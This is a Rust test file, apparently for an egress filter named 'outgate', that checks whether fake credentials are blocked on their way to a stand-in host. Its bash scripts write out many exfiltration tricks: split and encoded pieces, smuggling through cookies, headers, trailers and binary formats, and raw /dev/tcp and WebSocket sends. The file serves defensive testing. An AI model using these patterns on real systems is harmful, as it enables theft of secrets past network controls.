//! Credentials late in a long stream, in pieces, and in messages of a WebSocket.

use outgate_harness::{Identity, lab_tests};

use crate::{Credential, assert_contained, assert_told, bash, confined, thief};

/// A frame of a client, masked with nothing so that its text shows in tests.
pub(crate) fn frame(first: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![first];
    if payload.len() < 126 {
        frame.push(0x80 | payload.len() as u8);
    } else {
        frame.push(0xfe);
        frame.extend((payload.len() as u16).to_be_bytes());
    }
    frame.extend([0, 0, 0, 0]);
    frame.extend(payload);
    frame
}

pub(crate) const HANDSHAKE: &str = "GET /ws HTTP/1.1\r\nHost: drop.example:8099\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n";

lab_tests! {
    fn a_long_upload_stops_where_the_credential_begins(lab) {
        let (thief, credential) = (thief(), Credential::new());
        for coding in ["cat", "base64 -w0", "gzip"] {
            let script = format!(
                "(perl -e 'srand 7; print pack(q(C*), map {{ int rand 256 }} 1..3000000)' | od -An -c -v; printf '%s' '{}'; head -c 100000 /dev/zero) | {coding} | curl -sS -T - $URL/up",
                credential.text(),
            );
            let outcome = confined(lab, Identity::Own).run(&bash(&script));
            let sent = thief.take_all();
            assert_contained(&outcome, &sent, &credential, coding);
            assert_told(&outcome, coding);
            assert!(sent.len() > 1_000_000, "{coding}: it was a stream: {} bytes, {outcome}", sent.len());
            assert!(!sent.ends_with(b"0\r\n\r\n"), "{coding}: it never became whole");
            assert_ne!(outcome.stdout, "arrived\n", "{coding}: {outcome}");
        }
    }

    fn a_credential_in_pieces_stops_with_its_last_piece(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let (first, second) = credential.text().split_at(12);
        let script = format!("curl -sS \"$URL/?a={first}\"; curl -sS \"$URL/?b={second}\"; curl -sS \"$URL/?c={second}\"; curl -sS $URL/fine");
        let outcome = confined(lab, Identity::Own).run(&bash(&script));
        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
        assert!(sent.contains(first) && !sent.contains(second), "{sent}");
        assert!(sent.contains("GET /fine"), "the rest goes on: {sent}");
        assert_told(&outcome, "pieces");
    }

    fn pieces_in_contents_stop_with_the_last_one(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let (first, second) = credential.text().split_at(12);
        for (name, media, before, after) in [
            ("plain", "text/plain", "", ""),
            ("json", "application/json", r#"{"id":7,"chunk":""#, r#""}"#),
            ("form", "application/x-www-form-urlencoded", "chunk=", ""),
        ] {
            let post = |number: u32, piece: &str| format!(
                "curl -sS -H 'Content-Type: {media}' --data-raw '{before}{piece}{after}' \"$URL/{number}?n={number}\"; "
            );
            let script = post(1, first) + &post(2, second) + "curl -sS $URL/fine";
            let outcome = confined(lab, Identity::Own).run(&bash(&script));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert!(sent.contains(first) && !sent.contains(second), "{name}: {sent}");
            assert!(sent.contains("GET /fine"), "{name}: the rest goes on: {sent}");
            assert_told(&outcome, name);
        }
    }

    fn pieces_in_content_that_is_coded_are_put_together(lab) {
        let (thief, credential) = (thief(), Credential::new());
        for size in [6, 13, 20] {
            let text = credential.text();
            let pieces = text.as_bytes().chunks(size).map(String::from_utf8_lossy);
            let items: Vec<String> = pieces.map(|piece| format!("{{\"d\":\"{piece}\"}}")).collect();
            let list = format!("[{}]", items.join(","));
            let harmless = "[{\"d\":\"one\"},{\"d\":\"two\"}]";
            for (name, coding, arguments) in [
                ("gzip that says so", "gzip", "-H 'Content-Encoding: gzip'"),
                ("gzip", "gzip", ""),
                ("base64", "base64 -w0", ""),
                ("hex", "xxd -p | tr -d '\\n'", ""),
                ("base64 of gzip", "gzip | base64 -w0", ""),
                ("base64 in JSON", "base64 -w0 | sed 's/.*/{\"x\":\"&\"}/'", "-H 'Content-Type: application/json'"),
                ("gzip in a form", "gzip | base64 -w0 | sed 's/.*/x=&/'", ""),
            ] {
                let send = |content: &str, to: &str| format!(
                    "printf %s '{content}' | {coding} | curl -sS {arguments} --data-binary @- $URL/{to}; "
                );
                let script = send(harmless, "harmless") + &send(&list, "pieces") + "curl -sS $URL/fine";
                let outcome = confined(lab, Identity::Own).run(&bash(&script));
                let sent = String::from_utf8_lossy(&thief.take()).into_owned();
                assert!(!sent.contains("POST /pieces"), "{name} by {size}: {sent} {outcome}");
                assert!(sent.contains("POST /harmless") && sent.contains("GET /fine"), "{name}: the rest goes on: {sent}");
                assert_told(&outcome, name);
            }
        }
    }

    fn pieces_in_every_place_of_requests_stop_with_the_last_one(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let text = credential.text();
        let pieces = [&text[..13], &text[13..26], &text[26..]];
        let each = |one: &dyn Fn(usize, &str) -> String| {
            let sent = pieces.iter().enumerate();
            sent.map(|(number, piece)| one(number, piece)).collect::<String>()
        };
        let [a, b, c] = pieces;
        let hex = |piece: &str| {
            let digits = piece.bytes().flat_map(|byte| [byte >> 4, byte & 15]);
            digits.filter_map(|digit| char::from_digit(u32::from(digit), 16)).collect::<String>()
        };
        let raw = |number: usize, piece: &str| format!(
            "exec 3<>/dev/tcp/drop.example/8099; printf 'POST /p{number} HTTP/1.1\\r\\nHost: drop.example:8099\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: x-t\\r\\n\\r\\n0\\r\\nx-t: {piece}\\r\\n\\r\\n' >&3; timeout 1 head -c 12 <&3 >/dev/null; exec 3>&-; "
        );
        let binary = |bytes: &str, coding: &str| format!(
            "printf '{bytes}' | {coding} | curl -sS -H 'Content-Type: application/octet-stream' --data-binary @- $URL/x; "
        );
        for (name, script) in [
            ("a query over requests", each(&|_, piece| format!("curl -sS \"$URL/x?d={piece}\"; "))),
            ("a query with constants", each(&|_, piece| format!("curl -sS \"$URL/x?v=2&d={piece}&k=abc\"; "))),
            ("a query of numbers", each(&|number, piece| format!("curl -sS \"$URL/x?n={number}&d={piece}\"; "))),
            ("names of a query", each(&|_, piece| format!("curl -sS \"$URL/x?{piece}=1\"; "))),
            ("a segment of the path", each(&|_, piece| format!("curl -sS \"$URL/v1/{piece}/x.png\"; "))),
            ("segments of one path", format!("curl -sS \"$URL/v1/{a}/{b}/{c}/x\"; ")),
            ("cookies", each(&|_, piece| format!("curl -sS -b 's=1; t={piece}; u=2' $URL/x; "))),
            ("cookies of one field", format!("curl -sS -b 's=1; a={a}; b={b}; c={c}' $URL/x; ")),
            ("names of cookies", each(&|_, piece| format!("curl -sS -b '{piece}=1' $URL/x; "))),
            ("names of fields", each(&|_, piece| format!("curl -sS -H '{}: 1' $URL/x; ", hex(piece)))),
            ("fields", each(&|_, piece| format!("curl -sS -H 'X-T: {piece}' $URL/x; "))),
            ("pieces coded by themselves", each(&|_, piece| format!("curl -sS \"$URL/x?d={}\"; ", hex(piece)))),
            ("trailers", each(&raw)),
            ("a value between", format!("curl -sS --json '{{\"a\":\"{a}\",\"x\":\"word\",\"b\":\"{b}{c}\"}}' $URL/x; ")),
            ("words beside", format!("curl -sS --json '{{\"p\":\"aws\",\"a\":\"{a}{b}\",\"b\":\"{c}\",\"r\":\"us-east-1\"}}' $URL/x; ")),
            ("lines of settings", format!("printf 'p: aws\\na: {a}\\nb: \"{b}\"\\nc: {c}\\nr: us\\n' | curl -sS --data-binary @- $URL/x; ")),
            ("cells of a table", format!("printf '1,{a},x\\n2,{b},x\\n3,{c},x\\n' | curl -sS --data-binary @- $URL/x; ")),
            ("parts", format!("curl -sS -F a={a} -F b={b} -F c={c} $URL/x; ")),
            ("fields of parts", each(&|_, piece| format!("printf -- '--b\\r\\nContent-Disposition: form-data; name=\"f\"\\r\\nX-T: {piece}\\r\\n\\r\\nx\\r\\n--b--\\r\\n' | curl -sS -H 'Content-Type: multipart/form-data; boundary=b' --data-binary @- $URL/x; "))),
            ("text behind parts", each(&|_, piece| format!("printf -- '--b\\r\\nContent-Disposition: form-data; name=\"f\"\\r\\n\\r\\nx\\r\\n--b--\\r\\n{piece}' | curl -sS -H 'Content-Type: multipart/form-data; boundary=b' --data-binary @- $URL/x; "))),
            ("MessagePack", each(&|number, piece| binary(&format!("\\x82\\xa1i\\x{number:02x}\\xa1d\\x{:02x}{piece}", 0xa0 + piece.len()), "cat"))),
            ("CBOR", each(&|number, piece| binary(&format!("\\xa2\\x61i\\x{number:02x}\\x61d\\x{:02x}{piece}", 0x60 + piece.len()), "cat"))),
            ("BSON", each(&|_, piece| binary(&format!("\\x{:02x}\\0\\0\\0\\x02d\\0\\x{:02x}\\x00\\x00\\x00{piece}\\0\\0", piece.len() + 13, piece.len() + 1), "cat"))),
            ("gRPC-Web as text", each(&|_, piece| binary(&format!("\\0\\0\\0\\0\\x{:02x}\\x0a\\x{:02x}{piece}", piece.len() + 2, piece.len()), "base64 -w0"))),
            ("head and content", format!("curl -sS -d {b}{c} \"$URL/x?d={a}\"; ")),
        ] {
            let outcome = confined(lab, Identity::Own).run(&bash(&(script + "curl -sS $URL/fine")));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert!(!sent.contains(c) && !sent.contains(&hex(c)), "{name}: {sent}");
            assert!(sent.contains("GET /fine"), "{name}: the rest goes on: {sent} {outcome}");
            assert_told(&outcome, name);
        }
    }

    fn letters_one_by_one_stop_with_the_last_one(lab) {
        let thief = thief();
        for credential in [Credential::new(), Credential::with_the_last_letter_twice()] {
            let letters: Vec<&str> = credential.text().split_inclusive(|_: char| true).collect();
            let letters = letters.join(" ");
            // Not one that begins with the letter that is missing: it would be the last piece.
            let fine = if credential.text().ends_with('f') { "good" } else { "fine" };
            let script = format!("for l in {letters}; do curl -sS \"$URL/x?d=$l\"; done; curl -sS $URL/{fine}");
            let outcome = confined(lab, Identity::Own).run(&bash(&script));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert_eq!(sent.matches("GET /x").count(), credential.text().len() - 1, "{sent}");
            assert!(sent.contains(&format!("GET /{fine}")), "the rest goes on: {sent} {outcome}");
            assert_told(&outcome, "letters");
        }
    }

    fn pieces_of_requests_that_never_end_are_remembered(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let (first, second) = credential.text().split_at(12);
        let open = |piece: &str| format!(
            "exec 3<>/dev/tcp/drop.example/8099; printf 'POST /p HTTP/1.1\\r\\nHost: drop.example:8099\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n{:x}\\r\\n{piece}\\r\\n' >&3; sleep 2.6; exec 3>&-; sleep 0.2; ",
            piece.len(),
        );
        let script = open(first) + &open(second) + &open(second) + "curl -sS $URL/fine";
        let outcome = confined(lab, Identity::Own).run(&bash(&script));
        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
        assert!(!sent.contains(second), "{sent}");
        assert!(sent.contains("GET /fine"), "the rest goes on: {sent} {outcome}");
        assert_told(&outcome, "unended");
    }

    fn a_flood_of_messages_stops_nobody_else_and_fills_no_memory(lab) {
        let thief = thief();
        let given = lab.folder("given", Identity::Own);
        let short: Vec<u8> = (0..20_000).flat_map(|_| frame(0x81, b"a")).collect();
        let mut behind = frame(0x01, b"ghp_aaaaBBBB1111");
        behind.extend((0..20_000).flat_map(|_| frame(0x89, &[0; 125])));
        for (name, frames) in [("short", short), ("behind", behind)] {
            std::fs::write(given.join("handshake"), HANDSHAKE).expect("a file");
            std::fs::write(given.join("frames"), frames).expect("a file");
            let given = given.display();
            let script = format!(
                "exec 3<>/dev/tcp/drop.example/8099; cat {given}/handshake >&3; sleep 0.3; (timeout 8 cat {given}/frames >&3) & sleep 0.5; timeout 4 curl -sS $URL/fine; kill %1; wait",
            );
            let outcome = confined(lab, Identity::Own).run(&bash(&script));
            let sent = thief.take();
            let arrived = String::from_utf8_lossy(&sent);
            assert!(arrived.contains("GET /fine"), "{name}: {outcome}");
            if name == "behind" {
                assert!(!arrived.contains("ghp_"), "{outcome}");
                assert!(outcome.stderr.contains("too much waits behind a message"), "{outcome}");
            }
        }
    }

    fn messages_of_a_websocket_are_looked_at_one_by_one_and_together(lab) {
        let thief = thief();
        let given = lab.folder("given", Identity::Own);
        let credential = Credential::new();
        let text = credential.text().as_bytes();
        let (first, second) = text.split_at(20);
        let whole = frame(0x81, text);
        let fragments = [frame(0x01, first), frame(0x89, b"ping"), frame(0x80, second)].concat();
        let two = [frame(0x81, first), frame(0x81, second)].concat();
        let binary = frame(0x82, &[b"\x00\xff\x00", text].concat());
        let ping = frame(0x89, text);
        let pings = [frame(0x89, first), frame(0x89, second)].concat();
        let beside = [frame(0x81, first), frame(0x89, second)].concat();
        let close = |text: &[u8]| frame(0x88, &[&[3, 232], text].concat());
        let closed = [frame(0x81, first), close(second)].concat();
        let status = [frame(0x81, first), frame(0x88, second)].concat();
        let closing = close(text);
        let digits: Vec<String> = text.iter().map(|byte| format!("{byte:02x}")).collect();
        let hex = digits.concat();
        let (front, back) = hex.split_at(32);
        let coded = [frame(0x81, front.as_bytes()), close(back.as_bytes())].concat();
        let deflated = frame(0xc1, b"\x4a\x04\x00");
        let unmasked = [&[0x81, text.len() as u8][..], text].concat();
        let fine = [frame(0x81, b"hello"), frame(0x01, b"wor"), frame(0x80, b"ld")].concat();
        for (name, frames) in [
            ("whole", &whole), ("fragments", &fragments), ("two", &two), ("binary", &binary),
            ("ping", &ping), ("pings", &pings), ("beside", &beside),
            ("closed", &closed), ("status", &status), ("closing", &closing), ("coded", &coded), ("deflated", &deflated), ("unmasked", &unmasked), ("fine", &fine),
        ] {
            std::fs::write(given.join("handshake"), HANDSHAKE).expect("a file");
            std::fs::write(given.join("frames"), frames).expect("a file");
            let given = given.display();
            let script = format!(
                "exec 3<>/dev/tcp/drop.example/8099; cat {given}/handshake >&3; sleep 0.3; cat {given}/frames >&3; sleep 0.5; timeout 1 cat <&3 | tr -d '\\0'",
            );
            let outcome = confined(lab, Identity::Own).run(&bash(&script));
            let sent = thief.take();
            let arrived = String::from_utf8_lossy(&sent);
            assert!(arrived.contains("GET /ws"), "{name}: {outcome}");
            assert!(!arrived.to_lowercase().contains("sec-websocket-extensions"), "{name}");
            if name == "fine" {
                assert!(arrived.contains("hello") && arrived.contains("wor"), "{arrived}");
                assert!(!outcome.stderr.contains("outgate"), "{outcome}");
                continue;
            }
            let all = credential.text();
            assert!(!arrived.contains(&all[20..]), "{name}: {arrived}");
            assert!(!arrived.contains(back), "{name}: {arrived}");
            if !["two", "pings", "beside", "closed", "status", "coded"].contains(&name) {
                assert_contained(&outcome, &sent, &credential, name);
            }
            assert!(outcome.stderr.contains("outgate: denied"), "{name}: {outcome}");
        }
    }
}
